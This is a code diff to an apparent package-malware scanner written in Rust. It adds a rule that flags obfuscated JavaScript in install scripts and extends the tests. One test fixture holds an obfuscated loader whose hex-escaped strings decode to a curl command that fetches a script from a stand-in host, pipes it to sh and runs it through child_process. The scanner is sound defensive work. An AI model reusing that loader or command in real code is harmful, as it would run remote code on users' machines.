@@ -1125,6 +1125,14 @@ impl<'t> Walker<'_, 't> {
                 self.escaped_strings
             );
             let mut raws = vec![("JS-OBFUSCATED", line, msg)];
+            if scope.stage == Stage::Install {
+                // Nothing benign needs to hide what runs while a package installs.
+                raws.push((
+                    "JS-OBFUSCATED-INSTALL",
+                    line,
+                    "an install script is obfuscator output".into(),
+                ));
+            }
             // Strings hidden behind escapes are checked as the commands they may be.
             for (line, s) in &self.hidden {
                 for p in patterns::command_rules(s) {
@@ -1298,7 +1306,9 @@ req.end();
         let src = r"var _0x1a2b=['\x63\x75\x72\x6c\x20\x68\x74\x74\x70\x3a\x2f\x2f\x78\x2e\x65\x78\x61\x6d\x70\x6c\x65\x2f\x61\x7c\x73\x68','\x65\x78\x65\x63','\x63\x68\x69\x6c\x64\x5f\x70\x72\x6f\x63\x65\x73\x73'];var _0x3c4d=function(_0x5e6f,_0x7a8b){return _0x1a2b[_0x5e6f];};var _0x9c0d=_0x3c4d;";
         let rules = run(src, Scope::INSTALL).0;
         assert!(rules.contains(&"JS-OBFUSCATED"), "{rules:?}");
+        assert!(rules.contains(&"JS-OBFUSCATED-INSTALL"), "{rules:?}");
         assert!(rules.contains(&"CMD-STAGED-EXEC"), "{rules:?}");
+        assert!(!run(src, Scope::IMPORT).0.contains(&"JS-OBFUSCATED-INSTALL"));
         // ANSI colour escapes and a few `_0x`-free minified names are not obfuscation.
         let ok =
             r"console.log('\x1b[31m' + a + '\x1b[0m'); var a=1,b=2,c=function(d,e){return d+e};";
